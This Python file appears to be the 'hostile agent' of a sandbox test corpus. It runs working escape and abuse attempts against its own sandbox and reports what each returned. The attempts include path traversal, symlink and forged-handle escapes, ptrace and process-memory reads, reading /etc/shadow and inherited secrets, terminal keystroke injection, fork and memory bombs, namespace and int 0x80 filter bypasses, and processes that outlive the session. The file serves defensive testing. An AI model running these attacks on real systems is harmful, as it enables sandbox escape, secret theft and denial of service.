"""The hostile agent of the adversarial corpus: ``python3 hostile_agent.py ATTACK_ID PARAMS_JSON``.

Runs inside the sandbox with the system Python and the standard library only. Each attack really
tries to break one guarantee and prints one JSON object: what each attempt returned (``errno N``,
``killed by signal N``, or what it got). Whether the guarantee held is decided on the host side
by ``kernel/corpus/__init__.py`` (a canary file that must not exist, a listener that must receive
nothing, a host process that must be untouched...), never by trusting this output alone.

Every attempt runs in a forked child, so a filter that kills the caller (SIGSYS) is reported as
such instead of losing the report.
"""

import ctypes
import fcntl
import json
import mmap
import os
import resource
import signal
import socket
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
L = ctypes.c_long


def sys_call(nr, *args):
    ctypes.set_errno(0)
    r = libc.syscall(L(nr), *args)
    if r < 0:
        return f"errno {ctypes.get_errno()}"
    return f"succeeded ({r})"


def err(e):
    return f"errno {e.errno}"


def isolated(fn, *args):
    """Run fn(*args) in a child; its JSON-able result, or how the child died."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        try:
            res = fn(*args)
        except OSError as e:
            res = err(e)
        except Exception as e:  # report, never crash the report
            res = f"exception {type(e).__name__}: {e}"
        os.write(w, json.dumps(res).encode())
        os._exit(0)
    os.close(w)
    data = b""
    while chunk := os.read(r, 65536):
        data += chunk
    os.close(r)
    _, status = os.waitpid(pid, 0)
    if os.WIFSIGNALED(status):
        return f"killed by signal {os.WTERMSIG(status)}"
    try:
        return json.loads(data.decode())
    except ValueError:
        return f"no report (status {status})"


def write_file(path, data=b"pwned\n"):
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o666)
    os.write(fd, data)
    os.close(fd)
    return "written"


def read_file(path):
    with open(path, "rb") as f:
        return f.read(4096).decode(errors="replace")


# --- filesystem ------------------------------------------------------------------------------

def fs_traversal(p):
    ws = p["workspace"]
    up = "/".join([".."] * 12)
    return write_file(f"{ws}/{up}{p['canary']}")


def fs_absolute_write(p):
    return write_file(p["canary"])


def fs_symlink_out(p):
    link = "/tmp/link-out"
    os.symlink(os.path.dirname(p["canary"]), link)
    return write_file(f"{link}/{os.path.basename(p['canary'])}")


def fs_symlink_in_workspace(p):
    os.symlink("/etc/passwd", f"{p['workspace']}/evil-link")
    return "created"


def fs_hardlink_workspace(p):
    os.link(p["ws_file"], "/tmp/hard")
    return write_file("/tmp/hard")


def fs_hardlink_secret(p):
    os.link(p["secret_path"], "/tmp/hard-secret")
    return read_file("/tmp/hard-secret")


def fs_proc_self_root(p):
    return write_file(f"/proc/self/root{p['canary']}")


def fs_proc_pid_cwd(p):
    found = {}
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for link in ("cwd", "root"):
                try:
                    found[f"{pid}/{link}"] = read_file(f"/proc/{pid}/{link}{p['secret_path']}")
                except OSError as e:
                    found[f"{pid}/{link}"] = err(e)
    return found


def fs_open_by_handle(p):
    handle = ctypes.create_string_buffer(136)
    ctypes.memmove(handle, (ctypes.c_uint32 * 1)(128), 4)
    mount_id = ctypes.c_int(0)
    out = {"name_to_handle_at": sys_call(303, L(-100), b"/usr", handle,
                                         ctypes.byref(mount_id), L(0))}
    # A forged handle: inode 2 (a filesystem root) in the root mount, as in the "shocker" escape.
    forged = ctypes.create_string_buffer(136)
    ctypes.memmove(forged, (ctypes.c_uint32 * 2)(8, 1), 8)  # handle_bytes, type FILEID_INO32_GEN
    ctypes.memmove(ctypes.byref(forged, 8), (ctypes.c_uint32 * 2)(2, 0), 8)
    fd = os.open("/", os.O_RDONLY)
    out["open_by_handle_at"] = sys_call(304, L(fd), forged, L(0))
    return out


def fs_dev_shm(p):
    return write_file(f"/dev/shm/{os.path.basename(p['canary'])}")


def fs_mknod(p):
    out = {}
    for name, mode, dev in (("mem", 0o20600, os.makedev(1, 1)),
                            ("disk", 0o60600, os.makedev(8, 0))):
        try:
            os.mknod(f"/tmp/{name}", mode, dev)
            out[name] = read_file(f"/tmp/{name}")[:16] and "read"
        except OSError as e:
            out[name] = err(e)
    return out


def fs_disk_fill(p):
    written = 0
    chunk = b"x" * 65536
    fd = os.open("/tmp/fill", os.O_WRONLY | os.O_CREAT, 0o600)
    try:
        while written < 1 << 32:
            written += os.write(fd, chunk)
    except OSError as e:
        return {"fill": err(e), "written": written}
    return {"fill": "no limit", "written": written}


def fs_sparse(p):
    fd = os.open("/tmp/sparse", os.O_WRONLY | os.O_CREAT, 0o600)
    out = {}
    try:
        os.ftruncate(fd, 1 << 40)
        out["truncate"] = "succeeded"
    except OSError as e:
        out["truncate"] = err(e)
    try:
        os.lseek(fd, (1 << 40) - 10, os.SEEK_SET)
        os.write(fd, b"end")
        out["write_at_end"] = "succeeded"
    except OSError as e:
        out["write_at_end"] = err(e)
    try:
        out["fallocate"] = "succeeded" if os.posix_fallocate(fd, 0, 1 << 34) is None else "?"
    except OSError as e:
        out["fallocate"] = err(e)
    return out


def fs_workspace_write(p):
    return write_file(p["ws_file"])


def fs_workspace_metadata(p):
    out = {}
    for name, fn in (("chmod", lambda: os.chmod(p["ws_file"], 0o777)),
                     ("utime", lambda: os.utime(p["ws_file"], (0, 0))),
                     ("rename", lambda: os.rename(p["ws_file"], p["ws_file"] + ".moved")),
                     ("unlink", lambda: os.unlink(p["ws_file"]))):
        try:
            fn()
            out[name] = "succeeded"
        except OSError as e:
            out[name] = err(e)
    return out


def fs_read_secret(p):
    return read_file(p["secret_path"])


def fs_hidden_runs(p):
    out = {}
    try:
        out["read"] = read_file(p["hidden_file"])
    except OSError as e:
        out["read"] = err(e)
    try:
        out["list"] = os.listdir(os.path.dirname(p["hidden_file"]))
    except OSError as e:
        out["list"] = err(e)
    return out


def fs_host_listing(p):
    out = {}
    for d in ("/tmp", "/dev/shm", "/run", "/var/tmp", "/home", "/root"):
        try:
            out[d] = os.listdir(d)
        except OSError as e:
            out[d] = err(e)
    return out


def fs_proc_root_of_init(p):
    return read_file(f"/proc/1/root{p['secret_path']}")


# --- network ---------------------------------------------------------------------------------

def _connect(fam, addr, data=b"escape"):
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect(addr)
    s.sendall(data)
    s.close()
    return "connected and sent"


def net_tcp4(p):
    return _connect(socket.AF_INET, ("127.0.0.1", p["tcp4"]))


def net_tcp6(p):
    return _connect(socket.AF_INET6, ("::1", p["tcp6"]))


def net_udp4(p):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"escape", ("127.0.0.1", p["udp4"]))
    return "sent"


def net_udp6(p):
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.sendto(b"escape", ("::1", p["udp6"]))
    return "sent"


def net_raw(p):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    pkt = (12345).to_bytes(2, "big") + p["udp4"].to_bytes(2, "big") + (14).to_bytes(2, "big") \
        + b"\0\0escape"
    s.sendto(pkt, ("127.0.0.1", 0))
    return "sent"


def net_packet(p):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    return f"opened ({s.fileno()})"


def net_abstract_unix(p):
    return _connect(socket.AF_UNIX, "\0" + p["abstract"])


def net_pathname_unix(p):
    return _connect(socket.AF_UNIX, p["unix_path"])


def net_bind_port(p):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", p["free_port"]))
    s.listen(4)
    s.settimeout(4)
    try:
        c, _ = s.accept()
        return "accepted a host connection: " + c.recv(64).decode(errors="replace")
    except TimeoutError:
        return "bound, nobody came"


def net_external(p):
    return _connect(socket.AF_INET, ("1.1.1.1", 53))


def net_interfaces(p):
    return [name for _, name in socket.if_nameindex()]


# --- processes -------------------------------------------------------------------------------

def proc_kill_host(p):
    os.kill(p["victim"], signal.SIGKILL)
    return "signal sent"


def proc_kill_all(p):
    os.kill(-1, signal.SIGKILL)  # every process this uid can reach (not the caller)
    return "signal sent"


def proc_kill_parent(p):
    out = {}
    for name, pid in (("kernel", p["kernel_pid"]), ("parent", os.getppid())):
        try:
            os.kill(pid, signal.SIGKILL)
            out[name] = "signal sent"
        except OSError as e:
            out[name] = err(e)
    return out


def proc_ptrace(p):
    return {"attach": sys_call(101, L(16), L(p["victim"]), None, None),  # PTRACE_ATTACH
            "seize": sys_call(101, L(0x4206), L(p["victim"]), None, None)}


def proc_vm_readv(p):
    buf = ctypes.create_string_buffer(64)
    local = (ctypes.c_void_p * 2)(ctypes.cast(buf, ctypes.c_void_p), ctypes.c_void_p(64))
    remote = (ctypes.c_void_p * 2)(ctypes.c_void_p(0x400000), ctypes.c_void_p(64))
    return sys_call(310, L(p["victim"]), local, L(1), remote, L(1), L(0))


def proc_mem(p):
    out = {}
    try:
        fd = os.open(f"/proc/{p['victim']}/mem", os.O_RDWR)
        out["open"] = "opened"
        os.close(fd)
    except OSError as e:
        out["open"] = err(e)
    try:
        out["environ"] = read_file(f"/proc/{p['victim']}/environ")
    except OSError as e:
        out["environ"] = err(e)
    return out


def proc_pidfd_getfd(p):
    pidfd = libc.syscall(L(434), L(p["victim"]), L(0))  # pidfd_open
    if pidfd < 0:
        return {"pidfd_open": f"errno {ctypes.get_errno()}"}
    out = {"pidfd_open": "succeeded"}
    for target in range(3, 10):
        r = sys_call(438, L(pidfd), L(target), L(0))
        out[str(target)] = r
    return out


def proc_prlimit(p):
    new = (ctypes.c_uint64 * 2)(1, 1)
    return sys_call(302, L(p["victim"]), L(resource.RLIMIT_NOFILE), new, None)


def proc_setpriority(p):
    ctypes.set_errno(0)
    r = libc.setpriority(0, p["victim"], 19)
    return f"errno {ctypes.get_errno()}" if r < 0 else "succeeded"


def _survivor(marker):
    os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(60)", marker])


def proc_setsid(p):
    if os.fork() == 0:
        os.setsid()
        _survivor(p["marker"])
    return "forked a setsid child"


def proc_double_fork(p):
    if os.fork() == 0:
        if os.fork() == 0:
            os.setsid()
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            _survivor(p["marker"])
        os._exit(0)
    time.sleep(0.2)
    return "double-forked"


def _cmdlines():
    seen = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                seen.append(read_file(f"/proc/{pid}/cmdline"))
            except OSError:
                pass
    return seen


# --- kernel surface --------------------------------------------------------------------------

CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWNET = 0x10000000, 0x00020000, 0x40000000


def kernel_unshare_user(p):
    return sys_call(272, L(CLONE_NEWUSER))


def kernel_unshare_mount(p):
    return sys_call(272, L(CLONE_NEWNS))


def kernel_unshare_net(p):
    return sys_call(272, L(CLONE_NEWNET))


def kernel_clone_newuser(p):
    r = libc.syscall(L(56), L(CLONE_NEWUSER | 17), L(0), L(0), L(0), L(0))
    if r == 0:
        os._exit(0)
    if r > 0:
        os.waitpid(r, 0)
        return "succeeded"
    return f"errno {ctypes.get_errno()}"


def kernel_clone3_newuser(p):
    args = (ctypes.c_uint64 * 11)()
    args[0] = CLONE_NEWUSER
    args[4] = 17
    r = libc.syscall(L(435), ctypes.byref(args), L(88))
    if r == 0:
        os._exit(0)
    if r > 0:
        os.waitpid(r, 0)
        return "succeeded"
    return f"errno {ctypes.get_errno()}"


def kernel_io_uring(p):
    return sys_call(425, L(4), ctypes.create_string_buffer(120))


def kernel_bpf(p):
    attr = ctypes.create_string_buffer(128)
    ctypes.memmove(attr, (ctypes.c_uint32 * 4)(2, 4, 4, 1), 16)
    return sys_call(321, L(0), attr, L(128))


def kernel_perf_event_open(p):
    attr = ctypes.create_string_buffer(128)
    ctypes.memmove(attr, (ctypes.c_uint32 * 2)(1, 128), 8)
    ctypes.memmove(ctypes.byref(attr, 40), (ctypes.c_uint64 * 1)((1 << 0) | (1 << 5) | (1 << 6)),
                   8)
    return sys_call(298, attr, L(0), L(-1), L(-1), L(0))


def kernel_userfaultfd(p):
    return sys_call(323, L(0o2000000 | 1))


def kernel_keyctl(p):
    return {"keyctl": sys_call(250, L(0), L(-3), L(1)),
            "add_key": sys_call(248, b"user", b"agent-key", b"payload", L(7), L(-2))}


def kernel_personality(p):
    return {"no_randomize": sys_call(135, L(0x0040000)),
            "read_implies_exec": sys_call(135, L(0x0400000))}


def kernel_int80(p):
    """The 32-bit system call entry (int 0x80) from a 64-bit process: getuid32 = 199... we use
    the 32-bit number of getpid (20), which a filter checking x86_64 numbers would misread."""
    code = bytes([0xB8, 20, 0, 0, 0, 0xCD, 0x80, 0xC3])  # mov eax,20; int 0x80; ret
    mem = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    mem.write(code)
    addr = ctypes.addressof(ctypes.c_char.from_buffer(mem))
    fn = ctypes.CFUNCTYPE(ctypes.c_long)(addr)
    r = fn()
    return f"errno {-r}" if r < 0 else f"succeeded ({r})"


def kernel_mount(p):
    return {"tmpfs": sys_call(165, b"none", b"/tmp", b"tmpfs", L(0), None),
            "remount_ws_rw": sys_call(165, None, p["workspace"].encode(), None,
                                      L(32 | 4096), None)}  # MS_REMOUNT | MS_BIND


def kernel_module(p):
    return {"init_module": sys_call(175, None, L(0), b""),
            "finit_module": sys_call(313, L(0), b"", L(0)),
            "delete_module": sys_call(176, b"loop", L(0))}


def kernel_kexec(p):
    return sys_call(246, L(0), L(0), None, L(0))


def kernel_cgroupfs(p):
    out = {}
    try:
        os.mkdir(f"/sys/fs/cgroup/{p['tag']}")
        out["mkdir"] = "succeeded"
    except OSError as e:
        out["mkdir"] = err(e)
    try:
        write_file("/sys/fs/cgroup/cgroup.procs", str(os.getpid()).encode())
        out["move"] = "succeeded"
    except OSError as e:
        out["move"] = err(e)
    return out


def kernel_setns(p):
    fd = os.open("/proc/self/ns/net", os.O_RDONLY)
    return sys_call(308, L(fd), L(0))


def kernel_chroot(p):
    return {"chroot": sys_call(161, b"/tmp"), "pivot_root": sys_call(155, b"/tmp", b"/tmp")}


def kernel_syslog(p):
    return sys_call(103, L(3), ctypes.create_string_buffer(256), L(256))


def kernel_setuid_root(p):
    return {"setuid": sys_call(105, L(0)), "setgid": sys_call(106, L(0))}


# --- terminal --------------------------------------------------------------------------------

def term_tiocsti(p):
    out = {}
    for fd in (0, 1, 2):
        try:
            for ch in b"id\n":
                fcntl.ioctl(fd, 0x5412, bytes([ch]))
            out[str(fd)] = "injected"
        except OSError as e:
            out[str(fd)] = err(e)
    try:
        tty = os.open("/dev/tty", os.O_RDWR)
        fcntl.ioctl(tty, 0x5412, b"x")
        out["/dev/tty"] = "injected"
    except OSError as e:
        out["/dev/tty"] = err(e)
    return out


def term_tioclinux(p):
    out = {}
    for fd in (0, 1, 2):
        try:
            fcntl.ioctl(fd, 0x541C, bytes([2]) + b"\0" * 12)  # TIOCL_SETSEL (copy)
            fcntl.ioctl(fd, 0x541C, bytes([3]))  # TIOCL_PASTESEL
            out[str(fd)] = "pasted"
        except OSError as e:
            out[str(fd)] = err(e)
    return out


# --- resources -------------------------------------------------------------------------------

def res_fork_bomb(p):
    children = 0
    deadline = time.monotonic() + 5
    try:
        while time.monotonic() < deadline and children < 100000:
            pid = os.fork()
            if pid == 0:
                os.execv(sys.executable, [sys.executable, "-c",
                                          "import time; time.sleep(30)", p["marker"]])
            children += 1
    except OSError as e:
        return {"stopped_by": err(e), "children": children}
    return {"stopped_by": "nothing", "children": children}


def res_memory_bomb(p):
    blocks = []
    try:
        while len(blocks) < 64 * 1024:
            blocks.append(bytearray(16 << 20))
    except MemoryError:
        return {"stopped_by": "MemoryError", "mib": 16 * len(blocks)}
    return {"stopped_by": "nothing", "mib": 16 * len(blocks)}


def res_fd_exhaustion(p):
    fds = []
    try:
        while len(fds) < 1 << 20:
            fds.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as e:
        return {"stopped_by": err(e), "fds": len(fds)}
    return {"stopped_by": "nothing", "fds": len(fds)}


def res_cpu_burn(p):
    while True:
        pass


# --- leaks -----------------------------------------------------------------------------------

def leak_inherited_fds(p):
    out = {}
    for fd in sorted(int(x) for x in os.listdir("/proc/self/fd")):
        try:
            out[str(fd)] = os.readlink(f"/proc/self/fd/{fd}")
            os.lseek(fd, 0, os.SEEK_SET)
            out[str(fd)] += " " + os.read(fd, 4096).decode(errors="replace")
        except OSError as e:
            out[str(fd)] = out.get(str(fd), "") + " " + err(e)
    for fd in range(3, 256):  # descriptors hidden from /proc
        try:
            os.fstat(fd)
            out.setdefault(str(fd), "open")
        except OSError:
            pass
    return out


def leak_environment(p):
    return dict(os.environ)


def leak_host_processes(p):
    return _cmdlines()


def leak_host_identity(p):
    out = {}
    for path in ("/etc/shadow", "/etc/passwd", "/etc/hostname", "/proc/self/mountinfo"):
        try:
            out[path] = read_file(path)
        except OSError as e:
            out[path] = err(e)
    return out


def leak_session_sockets(p):
    out = {}
    for name in ("SSH_AUTH_SOCK", "DBUS_SESSION_BUS_ADDRESS", "XDG_RUNTIME_DIR", "DISPLAY"):
        out[name] = os.environ.get(name, "absent")
    for path in ("/run/user", "/tmp/.X11-unix", "/var/run/docker.sock", "/run/dbus"):
        try:
            out[path] = os.listdir(path) if os.path.isdir(path) else "exists"
            if not os.path.exists(path):
                out[path] = "absent"
        except OSError as e:
            out[path] = err(e)
    return out


# --- the same attacks through the syscall layer (only under `kernel exec`) -------------------

def _rel(p, key):
    return os.path.relpath(p[key], p["workspace"])


THROUGH_KERNEL = {
    # attack id: (call, what to ask the kernel for)
    "fs.traversal": ("write", lambda k, p: k.write("/".join([".."] * 12) + p["canary"],
                                                   b"pwned\n")),
    "fs.absolute-write": ("write", lambda k, p: k.write(p["canary"], b"pwned\n")),
    "fs.proc-self-root": ("write", lambda k, p: k.write("/proc/self/root" + p["canary"],
                                                        b"pwned\n")),
    "fs.dev-shm": ("write", lambda k, p: k.write(
        "/dev/shm/" + os.path.basename(p["canary"]), b"pwned\n")),
    "fs.hidden-runs": ("write", lambda k, p: k.write(_rel(p, "hidden_file"), b"forged\n")),
    "fs.workspace-metadata": ("write", lambda k, p: k.chmod(_rel(p, "ws_file"), 0o4777)),
    "net.tcp4": ("exec", lambda k, p: k.exec(["curl", f"http://127.0.0.1:{p['tcp4']}/"])),
    "proc.kill-host": ("exec", lambda k, p: k.exec(["kill", "-9", str(p["victim"])])),
    "kernel.unshare-user": ("exec", lambda k, p: k.exec(["unshare", "--user", "true"])),
    "kernel.mount": ("exec", lambda k, p: k.exec(["mount", "-t", "tmpfs", "none", "/tmp"])),
}
"""Attacks that also have a form the syscall layer could carry. Under ``kernel exec`` (its
syscall channel is open) the agent tries that form too, after the direct attempt, and reports
what the kernel answered; the host side checks the recorded decision."""


def through_kernel(attack, p):
    """The kernel's answer to the syscall-layer form of ``attack``, or None (no form, or not
    running under ``kernel exec``)."""
    if attack not in THROUGH_KERNEL or "KERNEL_SYSCALL_FD" not in os.environ:
        return None
    from syscalls.client import Kernel, SyscallError  # the kernel's client, in the sandbox

    call, ask = THROUGH_KERNEL[attack]
    try:
        k = Kernel.from_env()
        res = ask(k, p)
        return {"call": call, "ok": True, "answer": repr(res)[:200]}
    except SyscallError as e:
        return {"call": call, "ok": False, "errno": e.errno, "rule": e.rule,
                "decision": e.decision}
    except Exception as e:  # report, never crash the report
        return {"call": call, "ok": False, "exception": f"{type(e).__name__}: {e}"}


CATEGORIES = ("fs", "net", "proc", "kernel", "term", "res", "leak")
ATTACKS = {name: fn for name, fn in list(globals().items())
           if callable(fn) and name.split("_")[0] in CATEGORIES}

if __name__ == "__main__":
    attack = sys.argv[1]
    params = json.loads(sys.argv[2])
    fn = ATTACKS[attack.replace(".", "_").replace("-", "_")]
    if attack.startswith("res."):
        result = fn(params)  # resource attacks run in the agent itself: the limit must hold
    else:
        result = isolated(fn, params)
    report = {"attack": attack, "result": result}
    kernel = through_kernel(attack, params)
    if kernel is not None:
        report["kernel"] = kernel
    print(json.dumps(report), flush=True)
    if params.get("linger"):
        time.sleep(params["linger"])
